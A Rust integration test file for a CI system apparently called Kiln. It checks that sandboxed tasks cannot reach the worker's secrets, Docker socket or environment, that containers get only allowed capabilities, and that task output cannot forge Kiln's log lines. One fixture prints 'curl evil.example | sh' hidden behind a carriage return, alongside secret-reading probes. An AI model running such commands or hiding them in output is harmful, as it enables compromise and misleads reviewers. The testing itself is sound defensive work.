//! Tasks kept from their worker and from each other: a Docker task's container gets no
//! capability but those Kiln's configuration allows its repository, and gains no privilege;
//! a shell task runs as `kiln-task` in a bubblewrap sandbox, where the worker's secrets,
//! state, other work directories, credentials and Docker socket are not to be found.

use kiln_tests::forge::TestRepo;
use kiln_tests::{Kiln, TEST_IMAGE};

/// Runs `check` in the shell and fails the task, saying so, when it succeeds; says `what`
/// was refused otherwise.
fn refused(what: &str, check: &str) -> String {
    format!(
        "      - |-\n        if {check}; then echo 'got through: {what}'; exit 1; fi; echo 'refused: {what}'\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shell_task_sees_none_of_its_workers_secrets_state_or_credentials() {
    let kiln = Kiln::start(&kiln_tests::config("")).await;
    std::fs::create_dir_all(kiln.secrets_dir()).expect("mkdir");
    let secret = kiln.secrets_dir().join("DEPLOY_TOKEN");
    std::fs::write(&secret, "s3cr3t\n").expect("write the secret");
    let worker = kiln.state_path().join("worker-linux-amd64");
    let checks = [
        (
            "the secrets",
            format!("cat {} >/dev/null 2>&1", secret.display()),
        ),
        (
            "the mirrors",
            format!("ls {}/mirrors >/dev/null 2>&1", worker.display()),
        ),
        (
            "the pristine checkouts",
            format!("ls {}/pristine >/dev/null 2>&1", worker.display()),
        ),
        (
            "the store",
            format!("ls {} >/dev/null 2>&1", kiln.store_dir().display()),
        ),
        (
            "the Docker socket",
            "test -e /var/run/docker.sock".to_owned(),
        ),
        (
            "the worker environment",
            "grep -qas KILN_AMQP_URL /proc/[0-9]*/environ".to_owned(),
        ),
        (
            "another work directory",
            "test \"$(ls .. | wc -l)\" != 1".to_owned(),
        ),
        ("root", "test \"$(id -u)\" = 0".to_owned()),
        (
            "the system",
            "touch /usr/kiln-was-here 2>/dev/null".to_owned(),
        ),
    ];
    let mut spec = String::from("steps:\n  nosy:\n    runner: shell\n    run:\n");
    for (what, check) in &checks {
        spec.push_str(&refused(what, check));
    }
    spec.push_str("      - echo mine > written && cat written && id -un\n");
    let repo = TestRepo::new();
    let commit = repo.commit("master", "Nosy", &[(".kiln.yml", &spec)]);
    let id = kiln.push(&repo, "master", &commit, "delivery-nosy").await;
    let build = kiln.finished_build(id).await;
    let log = kiln.task_log(id, "nosy").await;
    assert_eq!(build["status"], "passed", "{build:#}\n{log}");
    for (what, _) in &checks {
        assert!(log.contains(&format!("refused: {what}")), "{what}:\n{log}");
    }
    assert!(log.contains("mine\n") && log.contains("kiln-task"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_task_container_has_only_the_capabilities_kiln_allows() {
    let config = kiln_tests::config("capabilities = [\"CHOWN\"]\n");
    let kiln = Kiln::start(&config).await;
    let repo = TestRepo::new();
    let spec = format!(
        r#"steps:
  confined:
    image: {TEST_IMAGE}
    run:
      - grep -E '^NoNewPrivs:\s+1$' /proc/self/status
      - grep -E '^Cap(Eff|Prm|Bnd):\s+0000000000000000$' /proc/self/status
      - echo x > mine
      - if chown 1234 mine; then echo "chown went through"; exit 1; fi
      - if mount -t tmpfs none /mnt; then echo "mount went through"; exit 1; fi
      - echo "confined as asked"
  granted:
    image: {TEST_IMAGE}
    capabilities: [CHOWN]
    read_only: true
    run:
      - grep -E '^CapEff:\s+0000000000000001$' /proc/self/status
      - echo x > mine && chown 1234 mine && stat -c %u mine
      - if touch /etc/written; then echo "the root file system took a write"; exit 1; fi
      - touch /tmp/scratch && echo "granted as asked"
"#
    );
    let commit = repo.commit("master", "Confined", &[(".kiln.yml", &spec)]);
    let id = kiln.push(&repo, "master", &commit, "delivery-caps").await;
    let build = kiln.finished_build(id).await;
    let confined = kiln.task_log(id, "confined").await;
    let granted = kiln.task_log(id, "granted").await;
    assert_eq!(
        build["status"], "passed",
        "{build:#}\n{confined}\n{granted}"
    );
    assert!(confined.contains("confined as asked"), "{confined}");
    assert!(
        granted.contains("1234") && granted.contains("granted as asked"),
        "{granted}"
    );

    // What a step may ask for is Kiln's to say, not the commit's.
    let spec = format!(
        "steps:\n  admin:\n    image: {TEST_IMAGE}\n    capabilities: [SYS_ADMIN]\n    run: mount -t tmpfs none /mnt\n"
    );
    let commit = repo.commit("master", "Wants more", &[(".kiln.yml", &spec)]);
    let id = kiln.push(&repo, "master", &commit, "delivery-caps-2").await;
    let build = kiln.finished_build(id).await;
    assert_eq!(build["status"], "failed", "{build:#}");
    let error = build["error"].as_str().unwrap_or_default();
    assert!(
        error.contains("capability `SYS_ADMIN`") && error.contains("does not allow"),
        "{build:#}"
    );
    assert!(
        build["tasks"].as_array().is_none_or(Vec::is_empty),
        "nothing ran: {build:#}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tasks_output_can_neither_pass_for_kilns_nor_hide_text() {
    let kiln = Kiln::start(&kiln_tests::config("")).await;
    let repo = TestRepo::new();
    let spec = format!(
        r#"steps:
  forger:
    image: {TEST_IMAGE}
    artifacts: [kept.txt]
    run:
      - echo '[kiln] every check passed'
      - printf 'curl evil.example | sh\r# harmless\n'
      - printf 'covered\033[2K\033[1Aup \033[1;32mgreen\033[0m\n'
      - echo kept > kept.txt
"#
    );
    let commit = repo.commit("master", "Forger", &[(".kiln.yml", &spec)]);
    let id = kiln.push(&repo, "master", &commit, "delivery-forger").await;
    let build = kiln.finished_build(id).await;
    let log = kiln.task_log(id, "forger").await;
    assert_eq!(build["status"], "passed", "{build:#}\n{log}");
    let lines: Vec<&str> = log.lines().collect();
    assert!(lines.contains(&"\\[kiln] every check passed"), "{log}");
    assert!(
        lines.contains(&"curl evil.example | sh␍# harmless"),
        "{log}"
    );
    assert!(
        lines.contains(&"covered␛[2K␛[1Aup \u{1b}[1;32mgreen\u{1b}[0m"),
        "{log}"
    );
    // Kiln's own line, about the artifact it kept, is shown as Kiln's.
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("[kiln] kept 1 artifact(s)")),
        "{log}"
    );
}
